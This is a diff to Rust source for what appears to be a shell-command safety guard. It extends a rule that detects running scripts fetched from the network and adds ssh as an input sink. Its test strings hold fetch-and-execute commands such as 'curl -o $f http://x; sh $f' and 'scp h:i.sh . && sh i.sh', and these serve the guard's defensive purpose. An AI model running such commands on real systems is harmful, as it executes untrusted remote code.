@@ -3,9 +3,12 @@
 use super::{HIGH, MEDIUM, Rule, Scene};
 use crate::guard::Span;
 use crate::guard::call::{Call, is_group};
-use crate::guard::resolve::{Decoder, Feed, Substitution, Value, decodes};
+use crate::guard::resolve::{Decoder, Feed, Substitution, Value};
 use crate::guard::shell::Operator;
-use crate::guard::unwrap::{SHELLS, is_interpreter, is_shell, reads_commands, script_file, shell_code};
+use crate::guard::unwrap::{
+    SHELLS, inline_code, is_interpreter, is_shell, reads_commands, reads_program, script_file, shell_code,
+    ssh_command_at,
+};
 
 /// Programs that bring text from the network.
 pub(crate) const FETCHERS: &[&str] = &[
@@ -130,12 +133,12 @@ pub(super) const RULES: &[Rule] = &[
             if scene.fetched.is_empty() {
                 return None;
             }
-            let runs = call.program.text.contains('/')
+            let runs = call.program.text.contains(['/', '$'])
                 || is_shell(&call.name)
                 || is_interpreter(&call.name).is_some()
                 || call.is(&["source", "."]);
             let file = script_file(call).filter(|_| runs)?;
-            let base = file.base_name()?;
+            let base = file.text.rsplit('/').next()?;
             scene.fetched.iter().any(|name| name == base).then_some(call.span)
         },
         hits: &[
@@ -143,6 +146,8 @@ pub(super) const RULES: &[Rule] = &[
             "curl x > /tmp/a; bash /tmp/a",
             "wget http://h/install.sh && chmod +x install.sh && ./install.sh",
             "wget -O x.py h; python3 x.py",
+            "f=$(mktemp); curl -o $f http://x; sh $f",
+            "scp h:i.sh . && sh i.sh",
         ],
         misses: &[
             "curl x -o a.tgz && tar xzf a.tgz",
@@ -268,25 +273,6 @@ pub(super) const RULES: &[Rule] = &[
     },
 ];
 
-/// The facts that a pipeline stage hands on.
-pub(crate) fn feed(call: &Call, scene: &Scene<'_>) -> Feed {
-    let decoded = match call.name.as_str() {
-        "base64" | "base32" | "base16" | "basenc" | "gbase64" if decodes(call) => Some(Decoder::Base),
-        "xxd" if call.short('r').is_some() => Some(Decoder::Hex),
-        "tr" => Some(Decoder::Translate),
-        "openssl" if call.has(&["-d"]).is_some() => Some(Decoder::Openssl),
-        "uudecode" | "rev" => Some(Decoder::Other),
-        _ => None,
-    };
-    let secret = super::credentials::reads_secret(call, scene).or_else(|| call.args.iter().find_map(|arg| arg.secret));
-    Feed {
-        decoded,
-        secret,
-        fetched: FETCHERS.contains(&call.name.as_str()),
-        ..Feed::default()
-    }
-}
-
 fn feed_of(call: &Call) -> Option<&Feed> {
     if call.input.is_some() {
         None
@@ -297,11 +283,13 @@ fn feed_of(call: &Call) -> Option<&Feed> {
 
 /// An interpreter that takes its program from standard input.
 fn sink(call: &Call) -> Option<Span> {
-    let reads = if is_shell(&call.name) {
-        reads_commands(call)
-    } else {
-        let sourced = call.is(&["source", "."]) && call.args.first().is_some_and(|file| file.text == "/dev/stdin");
-        sourced || is_interpreter(&call.name).is_some() && call.args.iter().all(|arg| arg.text == "-")
+    let reads = match call.name.as_str() {
+        name if is_shell(name) => reads_commands(call),
+        "source" | "." => call.args.first().is_some_and(|file| file.text == "/dev/stdin"),
+        // Without a command the remote shell reads its input.
+        "ssh" => ssh_command_at(call).is_none() && !call.args.is_empty(),
+        name => is_interpreter(name)
+            .is_some_and(|family| inline_code(call, family).is_none() && reads_program(call, family)),
     };
     reads.then_some(call.span)
 }
@@ -324,7 +312,7 @@ fn fetched(value: &Value, how: &[Substitution]) -> bool {
 fn runs_fetched(call: &Call, how: &[Substitution]) -> Option<Span> {
     let runs_arguments = matches!(call.name.as_str(), "eval" | "source" | ".");
     let process = how.contains(&Substitution::Process);
-    let interprets = is_shell(&call.name) || is_interpreter(&call.name).is_some();
+    let interprets = is_shell(&call.name) || is_interpreter(&call.name).is_some() || runs_arguments;
     let value = if runs_arguments || (interprets && process) {
         call.args.iter().find(|arg| fetched(arg, how))
     } else if is_shell(&call.name) {
